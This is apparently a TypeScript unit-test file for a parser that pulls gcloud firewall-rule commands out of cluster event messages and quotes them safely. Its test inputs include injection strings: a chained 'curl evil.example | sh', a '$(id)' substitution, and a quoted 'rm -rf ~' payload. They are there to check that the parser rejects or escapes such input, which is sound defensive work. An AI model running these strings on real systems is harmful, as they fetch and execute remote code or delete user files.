import { describe, expect, it } from "vitest";
import { parseFirewallRequest } from "../../../src/diagnostics/sync/firewall-request.ts";

const CREATE =
  'gcloud compute firewall-rules create k8s-fw-l7--0123 --network shared-net --description "GCE L7 firewall rule" ' +
  "--allow tcp:30000-32767,tcp:8080 --source-ranges 130.211.0.0/22,35.191.0.0/16 --target-tags gke-x-node --project host-project";

describe("parseFirewallRequest", () => {
  it("reads the command out of the Event and quotes it anew", () => {
    expect(parseFirewallRequest(`Firewall change required by security admin: \`${CREATE}\``)).toEqual({
      action: "create",
      rule: "k8s-fw-l7--0123",
      allow: ["tcp:30000-32767", "tcp:8080"],
      sourceRanges: ["130.211.0.0/22", "35.191.0.0/16"],
      project: "host-project",
      command: CREATE.replace('"GCE L7 firewall rule"', "'GCE L7 firewall rule'"),
    });
  });

  it("reads a command without backquotes, and one that joins flags and values", () => {
    const joined =
      "gcloud compute firewall-rules update k8s-fw-l7--0123 --allow=tcp:80 --project=host-project";
    expect(parseFirewallRequest(`Firewall change required by security admin: ${joined}`)).toMatchObject({
      action: "update",
      allow: ["tcp:80"],
      command: joined,
    });
  });

  it.each([
    ["a second command", "gcloud compute firewall-rules delete x; curl evil.example | sh"],
    ["a substitution", "gcloud compute firewall-rules create $(id) --allow tcp:80"],
    ["an unknown flag", "gcloud compute firewall-rules create x --impersonate-service-account evil"],
    ["an open quote", 'gcloud compute firewall-rules create x --description "'],
    ["a flag without a value", "gcloud compute firewall-rules create x --allow --project p"],
    ["no rule", "gcloud compute firewall-rules create --allow tcp:80"],
  ])("offers no command that holds %s", (_name, command) => {
    const request = parseFirewallRequest(`Firewall change required by security admin: \`${command}\``);
    expect(request).toBeDefined();
    expect(request?.command).toBeUndefined();
  });

  it("keeps what a value hides inside its quotes", () => {
    const hostile = "gcloud compute firewall-rules create x --description \"a'; rm -rf ~; '\" --allow tcp:80";
    expect(parseFirewallRequest(hostile)?.command).toBe(
      "gcloud compute firewall-rules create x --description 'a'\\''; rm -rf ~; '\\''' --allow tcp:80",
    );
  });

  it("finds none in other messages", () => {
    expect(parseFirewallRequest("Scheduled for sync")).toBeUndefined();
    expect(parseFirewallRequest("gcloud compute instances delete x")).toBeUndefined();
  });
});
